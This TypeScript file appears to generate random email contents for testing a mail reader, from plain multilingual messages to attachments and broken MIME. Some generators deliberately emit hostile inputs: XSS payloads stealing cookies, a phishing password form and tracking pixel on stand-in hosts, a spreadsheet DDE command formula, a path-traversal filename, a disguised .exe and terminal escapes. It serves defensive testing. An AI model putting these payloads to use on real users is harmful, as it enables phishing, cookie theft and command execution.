import type { Random } from "../seed/random.ts";

/** What a message has in it. */
export interface MessageContent {
  readonly text?: string;
  readonly html?: string;
  readonly attachments: readonly MessageAttachment[];
  /** Header fields besides those that every message has, as they are to stand in it. */
  readonly extraHeaders?: readonly string[];
  /** A last change of the bytes, for messages that no well-behaved program would write. */
  readonly mangle?: (message: string) => string;
}

/** A part that is a file. */
export interface MessageAttachment {
  readonly filename: string;
  readonly contentType: string;
  readonly content: Buffer;
}

const paragraphs = [
  "Hello,\n\nplease find the figures for last week below. The second column is what was delivered, the third what came back.",
  "Hej!\n\nVi ses på torsdag klockan tio. Ta med underlaget, så går vi igenom det tillsammans.\n\nMed vänliga hälsningar",
  "Guten Tag,\n\ndie Lieferung verzögert sich um zwei Tage. Wir bitten um Entschuldigung und melden uns mit dem neuen Termin.",
  "Bonjour,\n\nvotre demande a bien été enregistrée. Un conseiller vous répondra sous quarante-huit heures.",
  "お世話になっております。\n\nご請求書を送付いたしますので、ご確認ください。",
  "Dear colleague,\n\nthe meeting room has been changed. The agenda stays as it is; the minutes of last time are attached where there are any.",
] as const;

const signatures = [
  "-- \nAnna Ek\nNordfrakt AB",
  "-- \nSent from a telephone",
  "Regards,\nThe accounts team",
  "",
] as const;

/** What is in a message of this chance: mostly plain things, some of them what people send to break a reader. */
export function messageContent(random: Random, subject: string, spareBytes: number): MessageContent {
  return random.weighted([
    [plain, 36],
    [alternative, 30],
    [withFiles, 22],
    [hostileHtml, 4],
    [hostileText, 4],
    [malformed, 4],
  ])(random, subject, spareBytes);
}

function bodyText(random: Random): string {
  const signature = random.pick(signatures);
  return `${random.pick(paragraphs)}\n${signature === "" ? "" : `\n${signature}\n`}`;
}

function plain(random: Random): MessageContent {
  return { text: bodyText(random), attachments: [] };
}

function alternative(random: Random, subject: string): MessageContent {
  const text = bodyText(random);
  const html = `<!doctype html><html><head><title>${escape(subject)}</title></head><body style="font-family:sans-serif"><p>${escape(
    text,
  ).replaceAll(
    "\n",
    "<br>",
  )}</p><table><tr><th>Day</th><th>Sent</th></tr><tr><td>Monday</td><td>${random.integer(1, 900)}</td></tr></table></body></html>`;
  return { text, html, attachments: [] };
}

function withFiles(random: Random, subject: string, spareBytes: number): MessageContent {
  // Base64 takes 78 bytes for 57, and what is around it some more.
  const bytes = Math.max(40, Math.floor(spareBytes * 0.7));
  const attachments = [random.pick(fileMakers)(random, bytes)];
  if (random.chance(0.3)) attachments.push(table(random, 200));
  return { ...alternative(random, subject), attachments };
}

const fileMakers = [pdf, image, table, archive] as const;

function pdf(random: Random, bytes: number): MessageAttachment {
  const start =
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n";
  return file(
    "Månadsrapport.pdf",
    "application/pdf",
    start,
    random,
    bytes,
    "\ntrailer<</Root 1 0 R>>\n%%EOF\n",
  );
}

function image(random: Random, bytes: number): MessageAttachment {
  return file(
    "photo.png",
    "image/png",
    "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0",
    random,
    bytes,
    "",
  );
}

function archive(random: Random, bytes: number): MessageAttachment {
  return file("documents.zip", "application/zip", "PK\x03\x04\x14\0\0\0\0\0", random, bytes, "");
}

function table(random: Random, bytes: number): MessageAttachment {
  const rows = Array.from({ length: Math.max(1, Math.min(5_000, Math.floor(bytes / 24))) }, (_, index) => {
    return `2026-11-${String((index % 28) + 1).padStart(2, "0")};${random.integer(1, 99_999)}`;
  });
  return {
    filename: "sales.csv",
    contentType: "text/csv",
    content: Buffer.from(`date;sold\r\n${rows.join("\r\n")}\r\n`),
  };
}

function file(
  filename: string,
  contentType: string,
  start: string,
  random: Random,
  bytes: number,
  end: string,
): MessageAttachment {
  const middle = Buffer.alloc(Math.max(0, bytes - start.length - end.length));
  // One draw fills four bytes: an attachment may have millions.
  for (let index = 0; index + 4 <= middle.length; index += 4)
    middle.writeUInt32LE(random.integer(0, 0xffff_ffff), index);
  return {
    filename,
    contentType,
    content: Buffer.concat([Buffer.from(start, "latin1"), middle, Buffer.from(end, "latin1")]),
  };
}

function hostileHtml(random: Random, subject: string): MessageContent {
  const html = `<html><head><meta http-equiv="refresh" content="0;url=https://win-prizes-now.example/"><style>@import url(https://win-prizes-now.example/a.css);body{background:url(https://win-prizes-now.example/b.png)}</style></head><body onload="alert(1)"><script>alert(document.cookie)</script><h1>${subject}</h1><img src="https://win-prizes-now.example/pixel?u=${random.hex(8)}" width=1 height=1><img src=x onerror=alert(2)><a href="javascript:alert(3)">Your parcel</a><form action="https://secure-account-verify.example/"><input name=password type=password></form><iframe src="https://win-prizes-now.example/"></iframe><svg onload=alert(4)></svg></body></html>`;
  return { html, attachments: [] };
}

function hostileText(random: Random): MessageContent {
  const text = [
    "\u001b]0;owned\u0007\u001b[2J\u001b[31mThis text clears a terminal.\u001b[0m",
    "The name of the file is invoice\u202Efdp.exe and \u200Bnothing\u200B else.",
    "x".repeat(random.integer(2_000, 4_000)),
    "=cmd|' /C calc'!A0",
  ].join("\n");
  const attachments = [
    {
      filename: "../../../../etc/passwd",
      contentType: "text/plain",
      content: Buffer.from("root::0:0::/:/bin/sh\n"),
    },
    {
      filename: "invoice\u202Efdp.exe",
      contentType: "application/x-msdownload",
      content: Buffer.from("MZ\0\0"),
    },
  ];
  return { text, attachments };
}

function malformed(random: Random, subject: string, spareBytes: number): MessageContent {
  const content = random.chance(0.5)
    ? alternative(random, subject)
    : withFiles(random, subject, spareBytes / 2);
  const mangle = random.pick<(message: string) => string>([
    // The last boundary is missing.
    (message) => message.replace(/--[^\r\n]*--\r\n$/, ""),
    (message) => message.replace(/charset=utf-8/gi, "charset=x-no-such-charset"),
    (message) => message.replace(/charset=utf-8/gi, "charset=iso-8859-1"),
    (message) => message.replace(/boundary="[^"]*"/, 'boundary="another one"'),
    (message) => message.replace(/^MIME-Version: 1\.0\r\n/m, ""),
  ]);
  return {
    ...content,
    extraHeaders: [
      `Subject: ${"another subject ".repeat(20).trim()}`,
      "From: ceo@nordfrakt.example",
      `X-Long: ${"a".repeat(3_000)}`,
      "X-Encoded: =?utf-8?Q?=00=1B[31m?= =?x-unknown?B?////?=",
    ],
    mangle,
  };
}

function escape(text: string): string {
  return text.replace(/[&<>"]/g, (character) => `&#${character.charCodeAt(0)};`);
}
